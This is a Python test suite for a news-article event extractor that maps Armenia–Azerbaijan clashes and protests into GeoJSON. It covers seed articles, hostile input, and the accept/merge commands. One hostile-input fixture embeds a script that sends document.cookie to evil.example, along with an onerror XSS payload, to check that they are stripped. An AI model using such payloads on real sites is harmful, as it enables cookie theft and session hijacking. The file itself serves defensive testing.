"""From an article to candidate events: the five seed articles, hostile input, accept and merge.

Publication dates of the seeds (none of the texts carries one; see ../shared/seeds/README.md):

* 000: 2020-07-15. It reports the Interior Ministry's statement and US reactions "on
  Wednesday" and the Baku march "on Tuesday night" as the latest news, so it was
  written on Wednesday 15 July 2020 at the earliest; we take that day.
* 001 and 004: 2023-09-19. Both report the offensive, the UN speech and the Yerevan
  protests "on Tuesday" as the day's news; 19 September 2023 was that Tuesday.
* 002: 2020-12-31. An undated encyclopedia text whose latest dated fact is
  "December 2020" (the officers declared National Heroes); the last day of that
  month is the earliest date consistent with everything it says.
* 003: 2024-02-13. Moscow's reaction is "on Tuesday" and the clash "overnight"
  after "Monday night": Tuesday 13 February 2024.

Each expectation below was checked by hand against the curated event of that seed
in layers/*.geojson (named in the comment); the extractor has no article-specific rule.
"""

from __future__ import annotations

import json
import shutil
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from geo._errors import ValidationError
from geo.cli import app
from geo.config import ENV_LAYERS_DIR, Settings
from geo.gazetteer import Gazetteer
from geo.ingest import (
    MAX_ARTICLE_BYTES,
    ArticleMeta,
    Extraction,
    PlaceIndex,
    decode_article,
    extract,
    find_dates,
    find_figures,
    find_places,
    read_areas,
    read_article,
    strip_html,
    to_draft,
)
from tests.helpers import LAYERS, seed

PUBLISHED = {
    "000_3eff19b8bf5dfb3d.txt": date(2020, 7, 15),
    "001_2874fa14cb4eaf04.txt": date(2023, 9, 19),
    "002_77cb08a374101438.txt": date(2020, 12, 31),
    "003_b5e83af3f3b875c9.txt": date(2024, 2, 13),
    "004_843afa940c89899c.txt": date(2023, 9, 19),
}
runner = CliRunner()


@pytest.fixture(scope="module")
def index() -> PlaceIndex:
    settings = Settings()
    return PlaceIndex.default(Gazetteer.default(settings), settings.data_dir)


def run_seed(name: str, index: PlaceIndex) -> Extraction:
    return extract(read_article(seed(name)), ArticleMeta(PUBLISHED[name], None, name), index)


def candidate(ex: Extraction, place: str, day: str, event_type: str | None = None) -> Any:
    """The candidate at that place (ref key) on that day; fails listing what there is."""
    for c in ex.candidates:
        if (
            c.place.ref.key == place
            and str(c.day) == day
            and (event_type is None or c.event_type == event_type)
        ):
            return c
    found = [(c.place.ref.key, str(c.day), c.event_type) for c in ex.candidates]
    raise AssertionError(f"no candidate {place} {day} {event_type}; got {found}")


def claims(c: Any) -> set[tuple[Any, ...]]:
    """(measure, side, group, qualifier, number or words, claimant) of a candidate's claims."""
    out = set()
    for k in c.claims:
        amount = k.get("value") if "value" in k else (k.get("low"), k.get("high"))
        if k["qualifier"] == "unquantified":
            amount = k["text"]
        out.add((k["measure"], k["side"], k["group"], k["qualifier"], amount, k["claimant"]))
    return out


def span(c: Any) -> tuple[str, str, str, int | None]:
    assert c.date is not None
    return str(c.date.day), str(c.date.first), str(c.date.last), c.date.precision


# --------------------------------------------------------------------------- the five seeds


def test_seed_000_baku_march_and_tovuz_tavush(index: PlaceIndex) -> None:
    ex = run_seed("000_3eff19b8bf5dfb3d.txt", index)
    assert {p.ref.key for p in ex.places} == {
        "azadliq_square", "baku", "area:nagorno_karabakh", "area:tavush", "area:tovuz_district"
    }  # fmt: skip
    # baku-2020-07-14-karabakh-march: "Tuesday night" in Baku's Azadliq Square
    march = candidate(ex, "azadliq_square", "2020-07-14", "Protests")
    assert span(march) == ("2020-07-14", "2020-07-14", "2020-07-15", 1)
    assert {
        ("crowd_size", "azerbaijani", "civilian", "unquantified", "thousands", "the article"),
        ("crowd_size", "azerbaijani", "civilian", "up_to", 30000, "some media"),
    } <= claims(march)
    assert march.place.surface == "Azadliq Square"  # "Baku's Azadliq Square": the square
    # baku-2020-07-15-parliament-storming: the break-in, with the Interior Ministry's figures
    storming = candidate(ex, "baku", "2020-07-14", "Riots")
    assert storming.sub_event_type == "Violent demonstration"
    assert claims(storming) == {
        ("arrested", "azerbaijani", "civilian", "exact", 7, "Interior Ministry"),
        ("injured", "azerbaijani", "police", "exact", 7, "Interior Ministry"),
    }
    # tovuz-/tavush-2020-07-12-border-fighting: "over the weekend" before Wed 15 July
    tovuz = candidate(ex, "area:tovuz_district", "2020-07-11", "Battles")
    tavush = candidate(ex, "area:tavush", "2020-07-11", "Battles")
    assert span(tovuz) == span(tavush) == ("2020-07-11", "2020-07-11", "2020-07-12", 2)
    assert claims(tovuz) == {
        ("killed", "azerbaijani", "military", "at_least", 11, "Azerbaijan"),
        ("killed", "azerbaijani", "civilian", "at_least", 1, "Azerbaijan"),
    }
    assert {
        ("facilities_destroyed", "armenian", "military", "exact", 1, "Azerbaijani army"),
        ("killed", "armenian", "military", "unquantified", "hundreds", "Azerbaijani army"),
    } <= claims(tavush)
    shelling_tavush = candidate(ex, "area:tavush", "2020-07-11", "Explosions/Remote violence")
    assert ("killed", "armenian", "military", "exact", 4, "Armenia") in claims(shelling_tavush)
    # the overall toll names no place: kept as an article-level figure (curated: episode claim)
    assert [(k["measure"], k["qualifier"], k["value"]) for k in ex.unplaced_claims] == [
        ("killed", "at_least", 16)
    ]
    # Tovuz district is placed at Tovuz town, its centre, as a district-level location
    props = to_draft(ex)["features"][ex.candidates.index(tovuz)]["properties"]
    assert (props["place_id"], props["where_prec"], props["geo_precision"]) == ("tovuz", 4, 3)


def test_seed_001_offensive_and_yerevan_protests(index: PlaceIndex) -> None:
    ex = run_seed("001_2874fa14cb4eaf04.txt", index)
    assert {p.ref.key for p in ex.places} == {"area:nagorno_karabakh", "yerevan"}
    # nagorno-karabakh-2023-09-19-offensive
    offensive = candidate(ex, "area:nagorno_karabakh", "2023-09-19", "Battles")
    assert span(offensive) == ("2023-09-19", "2023-09-19", "2023-09-19", 1)
    assert claims(offensive) == {
        ("facilities_destroyed", "armenian", "military", "exact", 1, "the article"),
        ("killed", "armenian", "any", "exact", 27, "Armenian human rights group"),
        ("killed", "armenian", "civilian", "exact", 2, "Armenian human rights group"),
        ("injured", "armenian", "any", "more_than", 200, "Armenian human rights group"),
    }
    # nagorno-karabakh-2023-09-19-landmine
    landmine = candidate(ex, "area:nagorno_karabakh", "2023-09-19", "Explosions/Remote violence")
    assert landmine.sub_event_type == "Remote explosive/landmine/IED"
    assert claims(landmine) == {
        ("killed", "azerbaijani", "civilian", "unquantified", "civilian deaths", "Azerbaijan")
    }
    # yerevan-2023-09-19-government-buildings-protest (placed at the city: "government
    # buildings" is no gazetteer name) and -russian-embassy-protest
    yerevan = candidate(ex, "yerevan", "2023-09-19", "Protests")
    assert claims(yerevan) == {
        (
            "crowd_size",
            "armenian",
            "civilian",
            "unquantified",
            "a large number",
            "Reuters news agency and Russian media",
        ),
        ("injured", "armenian", "any", "exact", 34, "health ministry"),
        ("injured", "armenian", "police", "exact", 16, "health ministry"),
    }
    assert {k.get("via") for k in yerevan.claims if k["measure"] == "injured"} == {"Russian media"}


def test_seed_002_karabakh_march(index: PlaceIndex) -> None:
    ex = run_seed("002_77cb08a374101438.txt", index)
    keys = {p.ref.key for p in ex.places}
    assert {
        "gobu_park", "baku", "sumgayit", "azadliq_square", "milli_majlis_building",
        "second_alley_of_honor", "area:tavush", "area:tovuz_district", "vandam",
    } <= keys  # fmt: skip
    # gobu-2020-07-12-night-protest: "Gobu Park" is the IDP housing complex (gazetteer
    # gobu_park), not the village of Gobu that the article's summary names in passing
    gobu = candidate(ex, "gobu_park", "2020-07-12", "Protests")
    assert claims(gobu) == {
        ("crowd_size", "azerbaijani", "civilian", "range", (700, 800), "the article"),
        ("detained", "azerbaijani", "civilian", "unquantified", "dozens", "the article"),
    }
    # tovuz-2020-07-14-senior-officers-killed: "after the deaths of Major General Polad
    # Hashimov and Colonel Ilgar Mirzayev during the border clashes with Armenia" counts
    # the two named officers; told in a sentence about the protests, the clash is another
    # event that the sentence does not place, so the claim is unplaced, not the march's
    officers = [k for k in ex.unplaced_claims if k["measure"] == "killed"]
    assert [
        (k["side"], k["group"], k["qualifier"], k["value"], k["claimant"], k["subject"])
        for k in officers
    ] == [
        ("azerbaijani", "military", "exact", 2, "the article",
         "Major General Polad Hashimov, Colonel Ilgar Mirzayev")
    ]  # fmt: skip
    assert ex.text[slice(*officers[0]["_evidence"])].startswith("On 14 July, after the deaths")
    # baku-2020-07-14-karabakh-march and sumgayit-2020-07-14-rally
    baku = candidate(ex, "baku", "2020-07-14", "Protests")
    assert not [k for k in baku.claims if k["measure"] == "killed"]
    assert ("crowd_size", "azerbaijani", "civilian", "range", (30000, 50000), "the article") in (
        claims(baku)
    )
    sumgayit = candidate(ex, "sumgayit", "2020-07-14", "Protests")
    assert ("crowd_size", "azerbaijani", "civilian", "unquantified", "hundreds", "the article") in (
        claims(sumgayit)
    )
    assert candidate(ex, "azadliq_square", "2020-07-14", "Protests")  # "Freedom Square"
    # baku-2020-07-15-parliament-storming
    storming = candidate(ex, "baku", "2020-07-14", "Riots")
    ministry = "Azerbaijani Ministry of Internal Affairs"
    assert claims(storming) >= {
        ("injured", "azerbaijani", "police", "exact", 7, ministry),
        ("vehicles_destroyed", "azerbaijani", "police", "exact", 2, ministry),
        ("vehicles_damaged", "azerbaijani", "any", "exact", 14, ministry),
    }
    damage = candidate(ex, "azadliq_square", "2020-07-14", "Protests")
    assert ("property_damage_azn", "azerbaijani", "any", "exact", 22150,
            "Azerbaijani Parliament") in claims(damage)  # fmt: skip
    # "37 people were prosecuted" and "Among them, 36 were arrested" name no one: they are
    # the legal actions of the two agencies that "announced they had launched a criminal
    # case" earlier in the section (the curated claimant: the Azerbaijani authorities)
    after = candidate(ex, "baku", "2020-07-15", "Protests")
    agencies = "Prosecutor General's Office and the Ministry of Internal Affairs of Azerbaijan"
    assert claims(after) == {
        ("arrested", "azerbaijani", "civilian", "exact", 36, "Azerbaijani authorities"),
        ("arrested", "azerbaijani", "civilian", "exact", 36, agencies),
        ("prosecuted", "azerbaijani", "civilian", "exact", 37, agencies),
        ("detained", "azerbaijani", "civilian", "up_to", 120, "other Azerbaijani sources"),
        ("crowd_size", "azerbaijani", "civilian", "exact", 150, "President Aliyev"),
    }
    assert {k["claimant_type"] for k in after.claims if k["claimant"] == agencies} == {"government"}
    # baku-2020-07-15-officers-funeral
    funeral = candidate(ex, "second_alley_of_honor", "2020-07-15")
    assert (funeral.event_type, funeral.sub_event_type) == ("Strategic developments", "Other")
    # tavush-/tovuz-2020-07-12-border-fighting: "From 12 to 16 July 2020"
    tavush = candidate(ex, "area:tavush", "2020-07-12", "Battles")
    tovuz = candidate(ex, "area:tovuz_district", "2020-07-12", "Battles")
    assert span(tavush) == span(tovuz) == ("2020-07-12", "2020-07-12", "2020-07-16", 2)
    assert claims(tavush) == {
        ("killed", "any", "military", "at_least", 17, "the article"),
        ("killed", "any", "civilian", "at_least", 1, "the article"),
        ("injured", "any", "any", "unquantified", "many", "the article"),
    }


def test_seed_003_nerkin_hand(index: PlaceIndex) -> None:
    ex = run_seed("003_b5e83af3f3b875c9.txt", index)
    assert {p.ref.key for p in ex.places} >= {"nerkin_hand", "area:syunik"}
    # nerkin-hand-2024-02-13-revenge-operation: "overnight" before Tuesday 13 February
    night = candidate(ex, "nerkin_hand", "2024-02-13", "Battles")
    assert span(night) == ("2024-02-13", "2024-02-12", "2024-02-13", 2)
    assert night.inherited_place  # the place is named a few sentences later
    assert claims(night) == {
        ("killed", "armenian", "military", "exact", 4, "Yerevan"),
        ("injured", "armenian", "military", "exact", 1, "Yerevan"),
    }
    # nerkin-hand-2024-02-12-alleged-fire: "on Monday night"
    monday = candidate(ex, "nerkin_hand", "2024-02-12", "Battles")
    assert span(monday) == ("2024-02-12", "2024-02-12", "2024-02-13", 1)
    assert claims(monday) == {
        ("facilities_destroyed", "armenian", "military", "exact", 1, "Azerbaijanis")
    }
    # Nerkin Hand has no sourced coordinate: the point is Kapan, at coarser precision
    props = to_draft(ex)["features"][ex.candidates.index(night)]["properties"]
    assert (props["place_id"], props["geo_precision"], props["where_prec"]) == ("nerkin_hand", 2, 3)
    feature = to_draft(ex)["features"][ex.candidates.index(night)]
    kapan = Gazetteer.default(Settings()).get("kapan")
    assert feature["geometry"]["coordinates"] == [kapan.lon, kapan.lat]


def test_seed_004_offensive_stepanakert_yerevan(index: PlaceIndex) -> None:
    ex = run_seed("004_843afa940c89899c.txt", index)
    assert {p.ref.key for p in ex.places if p.located} == {
        "area:nagorno_karabakh", "stepanakert_khankendi", "yerevan"
    }  # fmt: skip
    assert {p.surface for p in ex.places if p.ref.key == "stepanakert_khankendi"} == {
        "Stepanakert", "Khankendi"
    }  # fmt: skip
    offensive = candidate(ex, "area:nagorno_karabakh", "2023-09-19", "Battles")
    sep = "Nagorno-Karabakh separatist authorities"
    assert claims(offensive) == {
        ("killed", "armenian", "any", "exact", 25, sep),
        ("killed", "armenian", "civilian", "exact", 2, sep),
        ("injured", "armenian", "any", "exact", 138, sep),
    }
    # stepanakert-2023-09-19-shelling, with the defence ministry's claims of that statement
    shelling = candidate(ex, "stepanakert_khankendi", "2023-09-19", "Explosions/Remote violence")
    assert shelling.sub_event_type == "Shelling/artillery/missile attack"
    assert claims(shelling) == {
        ("posts_seized", "armenian", "military", "more_than", 60, "Baku defence ministry"),
        ("vehicles_destroyed", "armenian", "military", "up_to", 20, "Baku defence ministry"),
    }
    # yerevan-2023-09-19-government-buildings-protest
    assert candidate(ex, "yerevan", "2023-09-19", "Protests")
    # "Baku said", "by Baku", "a Baku defence ministry statement": the government, not a place
    assert [p.located for p in ex.places if p.ref.key == "baku"] == [False]
    assert all(c.place.ref.key != "baku" for c in ex.candidates)


# --------------------------------------------------------------------------- rules


def test_person_named_like_a_village_and_country_mentions_are_not_places(
    index: PlaceIndex,
) -> None:
    text = (
        "Movses Hakobyan said the army was ready. Fighting was reported in Armenia. "
        "Shells fell on Movses village overnight."
    )
    found = find_places(text, index)
    assert [(p.surface, p.ref.key) for p in found] == [("Movses", "movses")]
    assert found[0].start == text.index("Movses village")


def test_misspelt_names_match_only_where_the_text_says_place(index: PlaceIndex) -> None:
    text = "Shells hit the village of Chinary and the Tovouz district; Mr Chinary said so."
    found = [(p.surface, p.ref.key) for p in find_places(text, index)]
    assert found == [("Chinary", "chinari"), ("Tovouz district", "area:tovuz_district")]


def test_areas_table_problems_name_file_row_and_field(tmp_path: Path) -> None:
    bad = tmp_path / "areas.csv"
    bad.write_text(
        "area_id,name,aliases,kind,country,where_prec,centre_place_id,note\n"
        "tavush,Tavush Province,Tavush,province,ARM,4,ijevan,ok\n"
        "x,X Province,X,province,GEO,9,atlantis,bad\n",
        encoding="utf-8",
    )
    with pytest.raises(ValidationError) as info:
        read_areas(bad, Gazetteer.default(Settings()))
    assert info.value.problems == [
        f"{bad} row 3 (area_id x): field 'country': 'GEO' is not ARM or AZE",
        f"{bad} row 3 (area_id x): field 'where_prec': '9' is not 1-7",
        f"{bad} row 3 (area_id x): field 'centre_place_id': 'atlantis' is not a gazetteer place",
    ]


def test_relative_dates_against_publication() -> None:
    text = (
        "On Tuesday police moved in; over the weekend shelling; overnight a post fell; "
        "on 19 September."
    )
    got = {
        d.surface: (str(d.first), str(d.last), d.precision)
        for d in find_dates(text, date(2023, 9, 20))
    }
    assert got == {
        "On Tuesday": ("2023-09-19", "2023-09-19", 1),
        "over the weekend": ("2023-09-16", "2023-09-17", 2),
        "overnight": ("2023-09-19", "2023-09-20", 2),
        "19 September": ("2023-09-19", "2023-09-19", 1),
    }


def test_figures_in_words_ranges_and_vague_quantities() -> None:
    got = [
        (f.measure, f.qualifier, f.value, f.low, f.high, f.text)
        for f in find_figures(
            "Police said dozens were detained, about 30 to 50 thousand people demonstrated "
            "and four soldiers were killed."
        )
    ]
    assert got == [
        ("detained", "unquantified", None, None, None, "dozens"),
        ("crowd_size", "range", None, 30000, 50000, None),
        ("killed", "exact", 4, None, None, None),
    ]


def test_deaths_of_people_named_one_by_one_count_the_persons() -> None:
    def got(sentence: str) -> list[tuple[Any, ...]]:
        return [(f.measure, f.qualifier, f.value, f.side, f.group) for f in find_figures(sentence)]

    # a rank makes the group military; "clashes with Armenia" makes them the other side
    assert got(
        "After the deaths of Major General Polad Hashimov and Colonel Ilgar Mirzayev during "
        "the border clashes with Armenia, thousands demonstrated."
    )[-1] == ("killed", "exact", 2, "azerbaijani", "military")
    # a nationality word before the first name gives the side; three persons, a list
    assert got(
        "Armenian Captain Karen Petrosyan, Sergeant Aram Sargsyan and Private Davit Hakobyan "
        "were killed on Monday."
    ) == [("killed", "exact", 3, "armenian", "military")]
    # a list of eight is counted; one longer than the rule takes (ten persons) is left
    # out rather than undercounted
    firsts = ["Anar", "Elvin", "Farid", "Ilkin", "Kamran", "Murad", "Orxan", "Rauf", "Samir",
              "Tural", "Vusal", "Zaur"]  # fmt: skip
    privates = [f"Private {first} Aliyev" for first in firsts]
    assert got(f"The deaths of {', '.join(privates[:7])} and {privates[7]} shocked Baku.") == [
        ("killed", "exact", 8, "any", "military")
    ]
    assert got(f"The deaths of {', '.join(privates[:11])} and {privates[11]} shocked Baku.") == []
    # no rank, no side cue: two people of unknown side and group
    assert got("Snipers killed Armen Grigoryan and Tigran Avetisyan near the border.") == [
        ("killed", "exact", 2, "any", "any")
    ]


def test_named_people_who_did_not_die_are_not_counted() -> None:
    for sentence in (
        "Major General Polad Hashimov and Colonel Ilgar Mirzayev attended the funeral.",
        "Among the casualties were high-ranking officers, including Major General Polad "
        "Hashimov and Colonel Ilgar Mirzayev.",
        "Hashimov was buried alongside Mirzayev on 15 July.",
        # a bare surname with "and other ..." is not a list of named persons
        "The death of Hashimov and other high-ranking officers was a turning point.",
        # titles and place names are not persons
        "President Ilham Aliyev met Prime Minister Nikol Pashinyan after the killing of "
        "Nagorno Karabakh residents.",
        "The shelling killed Azerbaijani civilians.",
    ):
        assert find_figures(sentence) == [], sentence


_RIOT = "On 15 July, protesters rallied outside parliament in Baku and clashed with police. "
_CASE = (
    "The Prosecutor General's Office of Azerbaijan said it had opened a criminal case over "
    "the riot.\n\n"
)
_PROSECUTED = (
    "The investigation was completed on 11 September. Twelve people were prosecuted, "
    "officially charged with hooliganism. Among them, nine were arrested."
)


def _legal_claims(text: str, index: PlaceIndex) -> list[tuple[str, int, str]]:
    ex = extract(text, ArticleMeta(date(2020, 12, 31), None, "synthetic.txt"), index)
    return [
        (k["measure"], k["value"], k["claimant"])
        for c in ex.candidates
        for k in c.claims
        if k["measure"] in ("arrested", "detained", "prosecuted")
    ]


def test_passive_legal_actions_are_the_case_opening_authoritys(index: PlaceIndex) -> None:
    office = "Prosecutor General's Office of Azerbaijan"
    assert _legal_claims(_RIOT + _CASE + _PROSECUTED, index) == [
        ("prosecuted", 12, office),
        ("arrested", 9, office),
    ]


def test_legal_actions_without_a_case_opener_in_the_section_stay_the_articles(
    index: PlaceIndex,
) -> None:
    # nobody opened a case
    assert _legal_claims(_RIOT + _PROSECUTED, index) == [
        ("prosecuted", 12, "the article"),
        ("arrested", 9, "the article"),
    ]
    # the case was opened in another section
    other = _RIOT + _CASE + "== Later ==\nOn 16 July, protesters rallied in Baku. " + _PROSECUTED
    assert _legal_claims(other, index) == [
        ("prosecuted", 12, "the article"),
        ("arrested", 9, "the article"),
    ]
    # an active sentence names its own agent; a named claimant is kept
    active = (
        _RIOT + _CASE + "Later that night police detained 20 protesters. Relatives said 30 "
        "people were detained without charge."
    )
    assert _legal_claims(active, index) == [
        ("detained", 20, "the article"),
        ("detained", 30, "Relatives"),
    ]


def test_html_scripts_are_dropped_never_run() -> None:
    page = (
        "<html><head><script>alert('x')</script><style>p{}</style></head><body>"
        "<p>Protesters gathered in Yerevan on Tuesday.</p><script>document.write('Baku')</script>"
        "<p>&lt;b&gt;not markup&lt;/b&gt;</p></body></html>"
    )
    assert strip_html(page) == "Protesters gathered in Yerevan on Tuesday.\n<b>not markup</b>"
    assert "alert" not in decode_article(page.encode())


# --------------------------------------------------------------------------- hostile input


def _ingest(article: Path, out: Path) -> Any:
    return runner.invoke(
        app, ["ingest", str(article), "--published", "2023-09-19", "--out", str(out)]
    )


def test_hostile_empty_file(tmp_path: Path) -> None:
    article = tmp_path / "empty.txt"
    article.write_bytes(b"")
    result = _ingest(article, tmp_path / "draft.geojson")
    assert result.exit_code == 1
    assert "empty.txt: the file is empty" in result.output
    assert not (tmp_path / "draft.geojson").exists()


def test_hostile_binary_file(tmp_path: Path) -> None:
    article = tmp_path / "photo.jpg"
    article.write_bytes(b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01" + bytes(range(256)) * 4)
    result = _ingest(article, tmp_path / "draft.geojson")
    assert result.exit_code == 1
    assert "photo.jpg: this is a binary file" in result.output
    assert not (tmp_path / "draft.geojson").exists()


def test_hostile_20_mb_file(tmp_path: Path) -> None:
    article = tmp_path / "huge.txt"
    with article.open("wb") as handle:
        handle.truncate(20 * 1024 * 1024)  # sparse: 20 MB without writing them
    assert article.stat().st_size > MAX_ARTICLE_BYTES
    result = _ingest(article, tmp_path / "draft.geojson")
    assert result.exit_code == 1
    assert "huge.txt: 20,971,520 bytes is too large" in result.output
    assert not (tmp_path / "draft.geojson").exists()


def test_hostile_html_with_scripts(tmp_path: Path) -> None:
    article = tmp_path / "page.html"
    article.write_text(
        "<html><body><script>fetch('http://evil.example/?'+document.cookie)</script>"
        "<p>Some Armenians gathered in Yerevan on Tuesday to demand action.</p>"
        "<img src=x onerror=alert(1)></body></html>",
        encoding="utf-8",
    )
    out = tmp_path / "draft.geojson"
    result = _ingest(article, out)
    assert result.exit_code == 0, result.output
    draft = json.loads(out.read_text(encoding="utf-8"))
    text = json.dumps(draft)
    assert "evil.example" not in text and "onerror" not in text and "<" not in text
    [feature] = draft["features"]
    assert feature["properties"]["place_id"] == "yerevan"
    assert feature["properties"]["event_date"] == "2023-09-19"
    # a page that is nothing but script: a clear message, no write
    only_script = tmp_path / "script.html"
    only_script.write_text("<html><script>alert('Baku')</script></html>", encoding="utf-8")
    result = _ingest(only_script, tmp_path / "other.geojson")
    assert result.exit_code == 1
    assert "script.html: no readable text once markup is removed" in result.output
    assert not (tmp_path / "other.geojson").exists()


def test_hostile_article_without_places(tmp_path: Path) -> None:
    article = tmp_path / "weather.txt"
    article.write_text("It rained on Tuesday. Nobody was hurt.\n", encoding="utf-8")
    result = _ingest(article, tmp_path / "draft.geojson")
    assert result.exit_code == 1
    assert "weather.txt: names no place in Armenia or Azerbaijan" in result.output
    assert not (tmp_path / "draft.geojson").exists()


# --------------------------------------------------------------------------- accept / merge


@pytest.fixture
def layers_copy(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    folder = tmp_path / "layers"
    shutil.copytree(LAYERS, folder)
    monkeypatch.setenv(ENV_LAYERS_DIR, str(folder))
    return folder


def _draft(tmp_path: Path, name: str) -> Path:
    out = tmp_path / "draft.geojson"
    result = runner.invoke(
        app, ["ingest", str(seed(name)), "--published", str(PUBLISHED[name]), "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    return out


def _ids(path: Path) -> list[str]:
    return [f["properties"]["event_id"] for f in json.loads(path.read_text())["features"]]


def _cid(draft: Path, place_id: str, day: str) -> str:
    for f in json.loads(draft.read_text())["features"]:
        if f["properties"].get("place_id") == place_id and f["properties"]["event_date"] == day:
            return str(f["candidate"]["id"])
    raise AssertionError(f"no candidate {place_id} {day}")


def test_draft_holds_offsets_not_text_and_validates(tmp_path: Path) -> None:
    draft = json.loads(_draft(tmp_path, "003_b5e83af3f3b875c9.txt").read_text())
    text = read_article(seed("003_b5e83af3f3b875c9.txt"))
    assert draft["draft"]["sha256"] and draft["draft"]["chars"] == len(text)
    for feature in draft["features"]:
        for start, end in feature["candidate"]["evidence"]:
            assert 0 <= start < end <= len(text)
        assert text[10:60] not in json.dumps(feature)
        assert feature["properties"]["sources"][0]["seed"] == "003_b5e83af3f3b875c9.txt"


def test_every_seed_gives_a_valid_draft_with_its_unplaced_claims(tmp_path: Path) -> None:
    # seed 002's "Gobu Park IDP housing complex" cut at 30 characters once ended in a
    # hyphen, giving an id with "--" that the draft refused
    for name in PUBLISHED:
        draft = json.loads(_draft(tmp_path, name).read_text())
        ids = [f["properties"]["event_id"] for f in draft["features"]]
        assert ids and all("--" not in i for i in ids), ids
    # 002's officers are a draft-level claim
    draft = json.loads(_draft(tmp_path, "002_77cb08a374101438.txt").read_text())
    assert [(k["measure"], k["value"], k["group"]) for k in draft["draft"]["claims"]
            if "value" in k] == [("killed", 2, "military")]  # fmt: skip
    assert any(
        i.startswith("gobu-park-idp-housing-complex-2020-07-12-peaceful-protest-")
        for i in _ids(tmp_path / "draft.geojson")
    )


def test_accept_adds_the_event_and_keeps_every_other(tmp_path: Path, layers_copy: Path) -> None:
    draft = _draft(tmp_path, "003_b5e83af3f3b875c9.txt")
    layer = layers_copy / "nerkin-hand-2024-02.geojson"
    before = _ids(layer)
    cid = _cid(draft, "nerkin_hand", "2024-02-13")
    result = runner.invoke(
        app, ["accept", str(draft), cid, "--layer", str(layer), "--event-id", "nerkin-hand-test"]
    )
    assert result.exit_code == 0, result.output
    assert _ids(layer) == [*before, "nerkin-hand-test"]
    assert runner.invoke(app, ["validate", str(layers_copy)]).exit_code == 0
    # the same id again: refused, file unchanged
    snapshot = layer.read_bytes()
    again = runner.invoke(
        app, ["accept", str(draft), cid, "--layer", str(layer), "--event-id", "nerkin-hand-test"]
    )
    assert again.exit_code == 1
    assert "'nerkin-hand-test' already exists in this layer" in again.output
    assert layer.read_bytes() == snapshot


def test_accept_refuses_a_date_outside_the_episode(tmp_path: Path, layers_copy: Path) -> None:
    draft = _draft(tmp_path, "003_b5e83af3f3b875c9.txt")
    layer = layers_copy / "nerkin-hand-2024-02.geojson"
    snapshot = layer.read_bytes()
    cid = _cid(draft, "nerkin_hand", "2024-02-13")
    result = runner.invoke(
        app, ["accept", str(draft), cid, "--layer", str(layer), "--date", "2024-03-01"]
    )
    assert result.exit_code == 1
    assert "falls outside the episode's 2024-02-12..2024-02-13" in result.output
    assert layer.read_bytes() == snapshot


def test_merge_adds_claims_and_source(tmp_path: Path, layers_copy: Path) -> None:
    draft = _draft(tmp_path, "001_2874fa14cb4eaf04.txt")
    layer = layers_copy / "yerevan-protests-2023-09.geojson"
    target = "yerevan-2023-09-19-russian-embassy-protest"
    cid = _cid(draft, "yerevan", "2023-09-19")
    result = runner.invoke(app, ["merge", str(draft), cid, "--into", target, "--layer", str(layer)])
    assert result.exit_code == 0, result.output
    data = json.loads(layer.read_text())
    props = next(f["properties"] for f in data["features"] if f["properties"]["event_id"] == target)
    assert [s["id"] for s in props["sources"]] == ["seed001"]  # same seed: its source reused
    assert {(c["measure"], c.get("value"), c["claimant"]) for c in props["claims"]} == {
        ("crowd_size", None, "Reuters news agency and Russian media"),
        ("injured", 34, "health ministry"),
        ("injured", 16, "health ministry"),
    }
    assert len(data["features"]) == 2
    assert runner.invoke(app, ["validate", str(layers_copy)]).exit_code == 0
    # merging the same candidate again adds nothing
    snapshot = layer.read_bytes()
    again = runner.invoke(app, ["merge", str(draft), cid, "--into", target, "--layer", str(layer)])
    assert again.exit_code == 0, again.output
    assert layer.read_bytes() == snapshot
    missing = runner.invoke(
        app, ["merge", str(draft), cid, "--into", "no-such-event", "--layer", str(layer)]
    )
    assert missing.exit_code == 1
    assert "no event 'no-such-event' in this layer" in missing.output


def test_accept_into_a_new_episode_layer(tmp_path: Path, layers_copy: Path) -> None:
    draft = _draft(tmp_path, "003_b5e83af3f3b875c9.txt")
    cid = _cid(draft, "nerkin_hand", "2024-02-12")
    layer = layers_copy / "syunik-border-2024-02.geojson"
    args = ["accept", str(draft), cid, "--layer", str(layer), "--event-id", "syunik-test"]
    result = runner.invoke(app, [*args, "--new-episode", "Syunik border, February 2024"])
    assert result.exit_code == 0, result.output
    data = json.loads(layer.read_text(encoding="utf-8"))
    assert data["episode"]["id"] == "syunik-border-2024-02"
    assert (data["episode"]["date_start"], data["episode"]["date_end"]) == (
        "2024-02-12",
        "2024-02-13",
    )
    assert _ids(layer) == ["syunik-test"]
    # the event id is already used in another layer now: a second new layer is refused
    other = layers_copy / "other-2024-02.geojson"
    again = runner.invoke(
        app, ["accept", str(draft), cid, "--layer", str(other), "--event-id", "syunik-test",
              "--new-episode", "Other"],
    )  # fmt: skip
    assert again.exit_code == 1
    assert "syunik-test already used in another layer" in again.output
    assert not other.exists()
    assert runner.invoke(app, ["validate", str(layers_copy)]).exit_code == 0
